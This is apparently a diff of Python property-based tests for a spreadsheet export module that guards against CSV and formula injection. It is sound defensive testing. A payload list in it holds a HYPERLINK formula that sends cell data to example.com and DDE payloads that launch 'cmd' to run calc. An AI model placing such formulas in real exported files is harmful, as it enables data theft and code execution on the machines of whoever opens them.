@@ -14,7 +14,14 @@ from python_calamine import CalamineWorkbook
 
 from backoffice.spreadsheets.cells import cell_text, plain_text, protect, starts_like_formula
 from backoffice.spreadsheets.workbook import column_letters
-from backoffice.spreadsheets.writing import CHUNK, csv_column, csv_pieces, safe_text, xlsx_pieces
+from backoffice.spreadsheets.writing import (
+    CHUNK,
+    csv_column,
+    csv_lines,
+    csv_pieces,
+    safe_text,
+    xlsx_pieces,
+)
 
 pytestmark = pytest.mark.no_database
 COMMANDS = ["1+1", 'HYPERLINK("http://example.com/?"&A1)', "cmd|' /C calc'!A0", "SUM(1)*DDE()"]
@@ -95,9 +102,16 @@ def test_the_glance_never_lets_a_character_through_that_would_be_changed():
                 assert protect(text) == text, f"U+{code:04X}"
 
 
-@given(st.lists(st.one_of(texts, st.sampled_from([*PAYLOADS, "a ", "a\nb", "", "ab", "1.5", "é", "a\n =1"]))))
-def test_a_column_at_a_glance_is_what_each_of_its_cells_is(column):
-    assert list(csv_column(column)) == [protect(text) for text in column]
+cells = st.one_of(
+    texts, st.sampled_from([*PAYLOADS, "a ", "a\nb", "", "ab", "1.5", "é", "a\n =1", "a,b", 'a"', "a\rb"])
+)
+
+
+@given(st.integers(1, 3).flatmap(lambda width: st.lists(st.lists(cells, min_size=width, max_size=width))))
+def test_what_is_written_a_column_at_a_time_is_what_csv_writes_of_each_cell(rows):
+    expected = StringIO(newline="")
+    csv.writer(expected).writerows([protect(text) for text in row] for row in rows)
+    assert csv_lines(map(csv_column, zip(*rows, strict=True))) == expected.getvalue()
 
 
 def test_a_text_that_is_too_long_for_excel_is_cut():
